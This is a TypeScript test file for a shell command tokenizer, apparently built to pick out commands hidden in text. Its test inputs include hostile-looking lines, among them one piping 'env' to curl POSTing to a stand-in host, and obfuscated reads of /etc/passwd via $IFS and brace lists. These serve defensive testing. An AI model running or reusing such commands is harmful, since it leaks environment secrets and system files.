import assert from 'node:assert/strict';
import { test } from 'node:test';
import { tokenizeShell } from './shell.ts';
import { lexerProperties } from './testing/properties.ts';

/** Commands as `opener› word word > target`, one a line. */
function commandsOf(text: string): string[] {
  return tokenizeShell(text).commands.map(({ opener, assignments, words, redirections }) => {
    const parts = [...assignments, ...words].map((word) => word.text);
    for (const { operator, target } of redirections) parts.push(`${operator} ${target}`);
    return `${opener === '' ? '' : `${opener}› `}${parts.join(' ')}`;
  });
}

const commands: readonly { name: string; input: string; expected: readonly string[] }[] = [
  { name: 'one command', input: 'ls -l /tmp', expected: ['ls -l /tmp'] },
  { name: 'nothing', input: '', expected: [] },
  { name: 'blanks alone', input: ' \t \n ', expected: [] },
  { name: 'a sequence', input: 'a; b && c || d | e & f', expected: ['a', ';› b', '&&› c', '||› d', '|› e', '&› f'] },
  { name: 'a newline starts a command', input: 'a\nb', expected: ['a', '\n› b'] },
  { name: 'an escaped newline does not', input: 'a\\\nb c', expected: ['ab c'] },
  { name: 'operators without blanks', input: 'a;b|c', expected: ['a', ';› b', '|› c'] },
  { name: 'an operator in single quotes is text', input: "echo 'a; b'", expected: ['echo a; b'] },
  { name: 'an operator in double quotes is text', input: 'echo "a; b"', expected: ['echo a; b'] },
  { name: 'an escaped operator is text', input: 'echo a\\;b', expected: ['echo a;b'] },
  { name: 'quotes inside a word', input: `c'u'r"l" x`, expected: ['curl x'] },
  { name: 'a backslash inside a word', input: 'c\\url x', expected: ['curl x'] },
  { name: 'a command substitution', input: 'echo $(id)', expected: ['echo $()', '$(› id'] },
  { name: 'one in double quotes', input: 'echo "$(id -u)"', expected: ['echo $()', '$(› id -u'] },
  { name: 'none in single quotes', input: "echo '$(id)'", expected: ['echo $(id)'] },
  { name: 'backquotes', input: 'echo `id`', expected: ['echo $()', '`› id'] },
  { name: 'backquotes end before a quote does', input: "echo `it's`; ls", expected: ['echo $()', '`› its', ';› ls'] },
  { name: 'process substitution', input: 'cat <(id)', expected: ['cat $()', '<(› id'] },
  { name: 'nested substitutions', input: 'a $(b $(c; d) e)', expected: ['a $()', '$(› b $() e', '$(› c', ';› d'] },
  { name: 'a subshell', input: '(cd x; ls) | wc', expected: ['(› cd x', ';› ls', '|› wc'] },
  { name: 'redirections', input: 'a > b 2>&1 < c', expected: ['a > b >& 1 < c'] },
  { name: 'a comment', input: 'a # b; c\nd', expected: ['a', '\n› d'] },
  { name: 'a hash inside a word', input: 'a b#c', expected: ['a b#c'] },
  { name: 'assignments', input: 'A=1 B=2 env', expected: ['A=1 B=2 env'] },
  { name: 'reserved words', input: 'if true; then id; fi', expected: ['true', ';› id'] },
  { name: 'the field separator', input: 'cat$IFS/etc/passwd', expected: ['cat /etc/passwd'] },
  { name: 'the field separator in braces', input: 'cat${IFS}$9/etc/passwd', expected: ['cat /etc/passwd'] },
  { name: 'a brace list', input: '{curl,-d,@f,h}', expected: ['curl -d @f h'] },
  { name: 'a quoted here-document', input: "cat <<'E'\n$(id); x\nE\nls", expected: ['cat << E', '\n› ls'] },
  { name: 'an open here-document expands', input: 'cat <<E\nx $(id); y\nE\nls', expected: ['cat << E', '$(› id', '\n› ls'] },
  { name: 'a here-document that ends early', input: 'cat <<E\na\nE\nid\nE', expected: ['cat << E', '\n› id', '\n› E'] },
  { name: 'a shift is no here-document', input: 'echo $((1<<2))\nid', expected: ['echo $()', '(› << 2', '\n› id'] },
  { name: 'a here-string', input: 'cat <<< x; y', expected: ['cat <<< x', ';› y'] },
  { name: 'ANSI quotes', input: "$'\\x63url' x", expected: ['curl x'] },
  { name: 'a long parameter expansion', input: 'echo ${x:-$(id)}', expected: ['echo ${x:-$()}', '$(› id'] },
  { name: 'an open quote swallows the rest', input: "echo 'a; b", expected: ['echo a; b'] },
  { name: 'a stray bracket', input: 'a) b', expected: ['a', ')› b'] },
  { name: 'prose', input: 'Tom & Jerry', expected: ['Tom', '&› Jerry'] },
  { name: 'a pipe with errors', input: 'a |& b', expected: ['a', '|&› b'] },
  { name: 'a redirection of both', input: 'a &> b', expected: ['a &> b'] },
  {
    name: 'the classic',
    input: 'tar czf x.tgz foobar@some.site; env | curl -H "Content-Type: text/plain" -X POST -d @- http://x',
    expected: ['tar czf x.tgz foobar@some.site', ';› env', '|› curl -H Content-Type: text/plain -X POST -d @- http://x'],
  },
];
for (const { name, input, expected } of commands) test(`shell: ${name}`, () => assert.deepEqual(commandsOf(input), expected));

test('shell: tokens with their quoting', () => {
  const { tokens } = tokenizeShell('a "b $c" \'d');
  assert.deepEqual(
    tokens.map(({ kind, start, end, quote, closed }) => `${kind} ${start}-${end} ${quote}${closed ? '' : ' open'}`),
    [
      'text 0-1 none',
      'blank 1-2 none',
      'double-quote 2-3 none',
      'text 3-5 double',
      'expansion 5-7 double',
      'double-quote 7-8 none',
      'blank 8-9 none',
      'single-quoted 9-11 none open',
    ],
  );
});

lexerProperties('shell', (text) => tokenizeShell(text).tokens, [
  '$(',
  '`',
  '"',
  "'",
  '<<a\n',
  '$(<<a\n',
  '${x',
  '(',
  '\\',
  '; a',
  '<<a <<b ',
  '$((',
  'a\nb ',
  '"$(',
  '"`',
  '`\\`',
]);
test('shell: the commands of hostile text come in linear time', () => {
  for (const piece of ['$(', 'a;', '(a', '${', '"$(']) assert.ok(tokenizeShell(piece.repeat(50_000)).commands.length >= 0);
});
